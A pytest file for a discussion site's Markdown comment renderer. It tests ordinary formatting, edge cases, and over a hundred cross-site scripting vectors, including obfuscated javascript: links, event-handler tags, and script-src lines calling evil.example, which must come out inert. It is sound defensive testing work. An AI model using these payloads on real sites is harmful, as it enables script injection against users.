"""Tests for comment Markdown rendering: ordinary Markdown, XSS vectors, and edge cases.

The XSS checks don't compare against expected strings: they parse the output and check
properties that must hold whatever the renderer chose to do with a vector. Text that a reader
typed, such as ``<script>`` or ``javascript:alert(1)``, may legitimately appear in the output
as escaped, visible text; what must never appear is markup: a tag or attribute outside the
allowlist, an event handler, or a URL with another scheme.
"""

from __future__ import annotations

import html
import re
import time
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest

from townhall.discussions import rendering
from townhall.discussions.rendering import render_markdown

# The allowlists are restated here rather than imported, so the tests pin the policy down.
ALLOWED_ATTRIBUTES: dict[str, frozenset[str]] = {
    "p": frozenset(),
    "br": frozenset(),
    "strong": frozenset(),
    "em": frozenset(),
    "del": frozenset(),
    "s": frozenset(),
    "code": frozenset(),
    "pre": frozenset(),
    "blockquote": frozenset(),
    "ul": frozenset(),
    "ol": frozenset({"start"}),
    "li": frozenset(),
    "a": frozenset({"href", "title", "rel"}),
}
LINK_REL = "nofollow ugc noopener"
ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
# Whitespace, C0/C1 controls and invisible characters that browsers or tricks may ignore.
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028\u2029\ufeff]")


class _Collector(HTMLParser):
    """Collects every tag with its attributes, and any markup that isn't a plain tag."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.end_tags: list[str] = []
        self.other_markup: list[str] = []
        self.tag_texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self.tag_texts.append(self.get_starttag_text() or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.end_tags.append(tag)

    def handle_comment(self, data: str) -> None:
        self.other_markup.append(f"comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other_markup.append(f"declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.other_markup.append(f"processing instruction: {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.other_markup.append(f"unknown declaration (CDATA?): {data!r}")


def _normalize_url(value: str) -> str:
    """What a browser would see as the URL: unescaped, invisible characters gone, lowercased."""
    return _IGNORED_IN_URLS.sub("", html.unescape(value)).lower()


def assert_safe_html(output: str, *, from_markdown: bool = True) -> None:
    """Fail unless ``output`` is inert. ``from_markdown=False`` skips two checks that only our
    Markdown layer guarantees (every link has an href; http(s) URLs have their slashes)."""
    parser = _Collector()
    parser.feed(output)
    parser.close()

    assert not parser.other_markup, parser.other_markup
    for tag in parser.end_tags:
        assert tag in ALLOWED_ATTRIBUTES, f"end tag </{tag}> not allowed in {output!r}"
    # Every "<" in the output must open one of the tags just parsed; any other "<" would be
    # unescaped text that a different (browser) parser might read as markup.
    assert output.count("<") == len(parser.tags) + len(parser.end_tags), output

    for (tag, attrs), tag_text in zip(parser.tags, parser.tag_texts, strict=True):
        assert tag in ALLOWED_ATTRIBUTES, f"<{tag}> not allowed in {output!r}"
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), f"duplicate attribute in {tag_text!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name!r} in {output!r}"
            assert name in ALLOWED_ATTRIBUTES[tag], f"{name!r} not allowed on <{tag}>"
            assert value is not None, f"valueless attribute {name!r} in {tag_text!r}"
            normalized = _normalize_url(value)
            for scheme in DANGEROUS_SCHEMES:
                assert scheme not in normalized, f"{scheme} in {tag_text!r}"
            assert "<script" not in normalized, tag_text
        unescaped_markup = _normalize_url(tag_text)
        assert "javascript:" not in unescaped_markup and "<script" not in unescaped_markup

        attributes = dict(attrs)
        if tag == "a":
            assert attributes.get("rel") == LINK_REL, tag_text
            href = attributes.get("href")
            if from_markdown:
                assert href, f"link without a usable href: {tag_text!r}"
            if href is not None:
                url = _normalize_url(href)
                scheme, colon, rest = url.partition(":")
                assert colon and scheme in ALLOWED_SCHEMES, f"bad scheme in {tag_text!r}"
                if from_markdown and scheme != "mailto":
                    assert rest.startswith("//"), f"scheme-relative URL in {tag_text!r}"
        if tag == "ol" and "start" in attributes:
            assert (attributes["start"] or "").isdigit(), tag_text

    assert "<script" not in output.lower()


# ---------------------------------------------------------------------------------------------
# (a) Ordinary Markdown


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param("Hello *world*", "<p>Hello <em>world</em></p>", id="emphasis"),
        pytest.param("**strong** and __also__", "<p><strong>strong</strong> and "
                     "<strong>also</strong></p>", id="strong"),
        pytest.param("~~gone~~", "<p><s>gone</s></p>", id="strikethrough"),
        pytest.param("use `x < y` here", "<p>use <code>x &lt; y</code> here</p>", id="code-span"),
        pytest.param("```python\nif a < b:\n    pass\n```",
                     "<pre><code>if a &lt; b:\n    pass\n</code></pre>", id="fenced-code"),
        pytest.param("    indented code", "<pre><code>indented code\n</code></pre>",
                     id="indented-code"),
        pytest.param("> quoted\n> text", "<blockquote>\n<p>quoted<br>\ntext</p>\n</blockquote>",
                     id="blockquote"),
        pytest.param("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>", id="bullet-list"),
        pytest.param("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>",
                     id="ordered-list"),
        pytest.param("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>',
                     id="ordered-list-start"),
        pytest.param("first line\nsecond line", "<p>first line<br>\nsecond line</p>",
                     id="newline-is-a-break"),
        pytest.param("para one\n\npara two", "<p>para one</p>\n<p>para two</p>",
                     id="paragraphs"),
        pytest.param("[the story](https://news.example/story?id=1&x=2)",
                     '<p><a href="https://news.example/story?id=1&amp;x=2" '
                     'rel="nofollow ugc noopener">the story</a></p>', id="link"),
        pytest.param('[t](http://news.example "A title")',
                     '<p><a href="http://news.example" title="A title" '
                     'rel="nofollow ugc noopener">t</a></p>', id="link-with-title"),
        pytest.param("<https://news.example/a>",
                     '<p><a href="https://news.example/a" rel="nofollow ugc noopener">'
                     "https://news.example/a</a></p>", id="autolink"),
        pytest.param("<reader@news.example>",
                     '<p><a href="mailto:reader@news.example" rel="nofollow ugc noopener">'
                     "reader@news.example</a></p>", id="email-autolink"),
        pytest.param("see https://news.example/a, ok",
                     '<p>see <a href="https://news.example/a" rel="nofollow ugc noopener">'
                     "https://news.example/a</a>, ok</p>", id="linkify-bare-url"),
        pytest.param("[x][ref]\n\n[ref]: https://news.example/r",
                     '<p><a href="https://news.example/r" rel="nofollow ugc noopener">x</a></p>',
                     id="reference-link"),
        pytest.param("# Big\n\nSmall\n---", "<p><strong>Big</strong></p>\n"
                     "<p><strong>Small</strong></p>", id="headings-become-strong"),
        pytest.param("![a chart](https://img.example/c.png)",
                     '<p><a href="https://img.example/c.png" rel="nofollow ugc noopener">'
                     "a chart</a></p>", id="image-becomes-link"),
        pytest.param("![](https://img.example/c.png)",
                     '<p><a href="https://img.example/c.png" rel="nofollow ugc noopener">'
                     "https://img.example/c.png</a></p>", id="image-without-alt"),
        pytest.param("[![logo](https://img.example/l.png)](https://news.example)",
                     '<p><a href="https://news.example" rel="nofollow ugc noopener">logo</a></p>',
                     id="image-inside-link"),
        pytest.param("<b>not bold</b> & <i>x</i>",
                     "<p>&lt;b&gt;not bold&lt;/b&gt; &amp; &lt;i&gt;x&lt;/i&gt;</p>",
                     id="raw-html-is-text"),
        pytest.param("[home](/)", "<p>[home](/)</p>", id="relative-link-stays-text"),
        pytest.param("[top](#comments)", "<p>[top](#comments)</p>", id="fragment-stays-text"),
        pytest.param("setup.py www.news.example reader@news.example",
                     "<p>setup.py www.news.example reader@news.example</p>",
                     id="no-fuzzy-linkify"),
        pytest.param("a\n\n---\n\nb", "<p>a</p>\n\n<p>b</p>", id="rule-dropped"),
    ],
)  # fmt: skip
def test_markdown_renders(source: str, expected: str) -> None:
    output = render_markdown(source)
    assert output == expected
    assert_safe_html(output)


def test_links_never_get_target() -> None:
    output = render_markdown("[a](https://news.example) https://news.example/b")
    assert "target" not in output
    assert output.count('rel="nofollow ugc noopener"') == 2


# ---------------------------------------------------------------------------------------------
# (b) XSS vectors, from the usual public cheat-sheet categories

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

XSS_VECTORS: list[tuple[str, str]] = [
    # script tags
    ("script-lower", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", "<script src=//evil.example/x.js></script>"),
    ("script-slash-attr", '<script/xss src="http://evil.example/x.js"></script>'),
    ("script-unclosed", "<script>alert(1)"),
    ("script-split-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script-in-blockquote", "> <script>alert(1)</script>"),
    ("script-in-list", "- <script>alert(1)</script>"),
    ("script-in-heading", "# <script>alert(1)</script>"),
    ("script-in-code-span", "`<script>alert(1)</script>`"),
    ("script-in-fence", "```html\n<script>alert(1)</script>\n```"),
    ("script-in-link-text", "[<script>alert(1)</script>](https://ok.example)"),
    ("script-entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-numeric-entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("script-unicode-escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("script-after-indent", "text\n\n    <script>alert(1)</script>\n\n<script>alert(2)</script>"),
    # event handlers on all kinds of tags
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-onerror-tab", "<img src=x\tonerror=alert(1)>"),
    ("img-onerror-newline", "<img src=x\nonerror=alert(1)>"),
    ("img-onerror-in-strong", "**<img src=x onerror=alert(1)>**"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("p-onclick-html-block", "<p onclick=alert(1)>x</p>"),
    ("a-onclick", '<a href="https://ok.example" onclick="alert(1)">x</a>'),
    ("input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
    ("select-onfocus", "<select autofocus onfocus=alert(1)></select>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("markdown-attr-syntax", "[x](https://ok.example){onclick=alert(1)}"),
    # markdown links with dangerous URLs
    ("link-javascript", "[x](javascript:alert(1))"),
    ("link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
    ("link-javascript-mixed", "[x](JaVaScRiPt:alert(1))"),
    ("link-javascript-angle", "[x](<javascript:alert(1)>)"),
    ("link-javascript-leading-space", "[x](   javascript:alert(1))"),
    ("link-vbscript", "[x](vbscript:msgbox(1))"),
    ("link-livescript", "[x](livescript:alert(1))"),
    ("link-data-html", f"[x](data:text/html;base64,{_B64_SCRIPT})"),
    ("link-data-upper", "[x](DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E)"),
    ("link-entity-colon", "[x](javascript&colon;alert(1))"),
    ("link-hex-entity-j", "[x](&#x6A;avascript:alert(1))"),
    (
        "link-decimal-entities",
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    ),
    ("link-tab-entity", "[x](jav&#x09;ascript:alert(1))"),
    ("link-newline-entity", "[x](jav&#x0A;ascript:alert(1))"),
    ("link-cr-entity", "[x](jav&#13;ascript:alert(1))"),
    ("link-literal-tab", "[x](jav\tascript:alert(1))"),
    ("link-null-byte", "[x](java\x00script:alert(1))"),
    ("link-leading-control-char", "[x](\x01javascript:alert(1))"),
    ("link-line-separator", "[x](java\u2028script:alert(1))"),
    ("link-zero-width-space", "[x](java\u200bscript:alert(1))"),
    ("link-fullwidth-colon", "[x](javascript\uff1aalert(1))"),
    ("link-percent-colon", "[x](javascript%3Aalert(1))"),
    ("link-backslash-escape", "[x](javascript\\:alert(1))"),
    ("link-unicode-escape", "[x](\\u006aavascript:alert(1))"),
    ("link-nested-brackets", "[[x](javascript:alert(1))](https://ok.example)"),
    ("link-quote-breakout", '[x](https://ok.example/"onmouseover="alert(1))'),
    ("link-title-breakout", '[x](https://ok.example "t" onclick="alert(1)")'),
    ("link-protocol-relative", "[x](//evil.example/x)"),
    ("link-relative-path", "[x](/account/delete)"),
    ("link-https-without-slashes", "[x](https:evil.example)"),
    ("link-http-backslashes", "[x](https:\\\\evil.example)"),
    # autolinks and linkify
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-javascript-mixed", "<JaVaScRiPt:alert(1)>"),
    ("autolink-javascript-entity", "<javascript&#58;alert(1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", f"<data:text/html;base64,{_B64_SCRIPT}>"),
    ("bare-javascript", "javascript:alert(1)"),
    ("bare-url-then-script", 'https://ok.example/"><script>alert(1)</script>'),
    ("bare-url-quote-breakout", 'https://ok.example/x"onmouseover="alert(1)'),
    ("bare-protocol-relative", "//evil.example/x"),
    # reference links
    ("ref-javascript", "[x][1]\n\n[1]: javascript:alert(1)"),
    ("ref-entity-encoded", "[x][a]\n\n[a]: &#106;avascript:alert(1)"),
    ("ref-angle-vbscript", "[x]\n\n[x]: <vbscript:msgbox(1)>"),
    ("ref-data-with-title", '[x][y]\n\n[y]: data:text/html,x "t"'),
    ("ref-relative", "[x][r]\n\n[r]: /logout"),
    # markdown images
    ("image-javascript", "![x](javascript:alert(1))"),
    ("image-alt-breakout", '![x" onerror="alert(1)](https://ok.example/i.png)'),
    ("image-src-breakout", '![x](https://ok.example/i.png"onerror="alert(1))'),
    ("image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image-ref-javascript", "![x][i]\n\n[i]: javascript:alert(1)"),
    ("image-tracking-pixel", "![](https://tracker.example/p.gif)"),
    # dangerous elements and attributes
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", f'<embed src="data:text/html;base64,{_B64_SCRIPT}">'),
    ("style-tag-expression", "<style>body{background:expression(alert(1))}</style>"),
    ("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("link-tag-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("form-action", '<form action="javascript:alert(1)"><button>x</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-formaction", "<input type=submit formaction=javascript:alert(1)>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate-href", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>"),
    ("math-xlink-href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("a-entity-obfuscated", '<a href="javas&#99;ript:alert(1)">x</a>'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("textarea-breakout", "<textarea></textarea><script>alert(1)</script>"),
    # comments, CDATA, broken and nested markup
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-breakout", "<!-- --><script>alert(1)</script> -->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", '<?xml version="1.0"?><script>alert(1)</script>'),
    ("doctype", "<!DOCTYPE html><script>alert(1)</script>"),
    ("broken-quotes", '<img """><script>alert(1)</script>">'),
    ("unclosed-img", "<img src=x onerror=alert(1)//"),
    ("nested-anchors", '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>'),
    ("markdown-html-interleaved", "*<b onmouseover=alert(1)>*x*</b>*"),
    # very long inputs
    ("long-scripts", "<script>alert(1)</script>" * 4000),
    ("long-javascript-links", "[x](javascript:alert(1)) " * 4000),
    ("long-open-brackets", "[" * 20_000 + "x](javascript:alert(1))"),
    ("long-nested-quotes", "> " * 5000 + "<script>alert(1)</script>"),
    ("long-nested-lists", "- " * 5000 + "[x](javascript:alert(1))"),
]


def test_there_are_enough_distinct_vectors() -> None:
    ids = [vector_id for vector_id, _ in XSS_VECTORS]
    assert len(ids) == len(set(ids))
    assert len({source for _, source in XSS_VECTORS}) == len(XSS_VECTORS) >= 60


@pytest.mark.parametrize("source", [s for _, s in XSS_VECTORS], ids=[i for i, _ in XSS_VECTORS])
def test_xss_vector_is_neutralized(source: str) -> None:
    assert_safe_html(render_markdown(source))


@pytest.mark.parametrize("source", [s for _, s in XSS_VECTORS], ids=[i for i, _ in XSS_VECTORS])
def test_sanitizer_alone_neutralizes_raw_html(source: str) -> None:
    """With ``html=False`` the vectors above never reach nh3 as markup, so they mostly exercise
    the Markdown layer. Feed them to the sanitizer directly, as raw HTML, so the second layer is
    proven to hold on its own (say, if raw HTML were ever enabled)."""
    assert_safe_html(rendering._CLEANER.clean(source), from_markdown=False)


@pytest.mark.parametrize(
    "output",
    [
        pytest.param("<p><script>alert(1)</script></p>", id="script"),
        pytest.param("<p><img src=x></p>", id="img"),
        pytest.param('<p onclick="x">a</p>', id="event-handler"),
        pytest.param('<a href="https://ok.example">a</a>', id="missing-rel"),
        pytest.param('<a href=" JAVA&#x0A;SCRIPT:alert(1)" rel="nofollow ugc noopener">a</a>',
                     id="obfuscated-javascript"),
        pytest.param('<a href="/relative" rel="nofollow ugc noopener">a</a>', id="relative"),
        pytest.param('<a href="https:evil" rel="nofollow ugc noopener">a</a>', id="no-slashes"),
        pytest.param('<a rel="nofollow ugc noopener">a</a>', id="no-href"),
        pytest.param('<a href="https://a" target="_blank" rel="nofollow ugc noopener">a</a>',
                     id="target"),
        pytest.param("<p>a <!-- b --></p>", id="comment"),
        pytest.param("<p>a < b</p>", id="unescaped-lt"),
    ],
)  # fmt: skip
def test_checker_catches_unsafe_html(output: str) -> None:
    """The checker itself must reject unsafe HTML, or the vector tests prove nothing."""
    with pytest.raises(AssertionError):
        assert_safe_html(output)


# ---------------------------------------------------------------------------------------------
# (c) Edge cases


@pytest.mark.parametrize("source", ["", " ", "\n\n", " \t\n \r\n"], ids=repr)
def test_blank_input_renders_empty(source: str) -> None:
    assert render_markdown(source) == ""


def test_100kb_input_renders_quickly() -> None:
    paragraph = (
        "Some **bold**, some *emphasis*, a [link](https://news.example/a) and "
        "https://news.example/b, `code`, ~~struck~~ <script>alert(1)</script>\n"
        "- item\n> quote\n\n"
    )
    source = paragraph * (100_000 // len(paragraph) + 1)
    assert len(source) >= 100_000
    started = time.perf_counter()
    output = render_markdown(source)
    elapsed = time.perf_counter() - started
    assert elapsed < 5.0, f"rendering 100 KB took {elapsed:.2f}s"
    assert output.count("<strong>bold</strong>") == source.count("**bold**")
    assert_safe_html(output)


def test_concurrent_renders_match_sequential() -> None:
    sources = [f"{i}. *item {i}* [x](https://news.example/{i}) ![i](https://img.example/{i})"
               "\n\n# heading\n\nhttps://news.example/bare" for i in range(1, 200)]  # fmt: skip
    expected = [render_markdown(s) for s in sources]
    with ThreadPoolExecutor(max_workers=8) as pool:
        assert list(pool.map(render_markdown, sources)) == expected
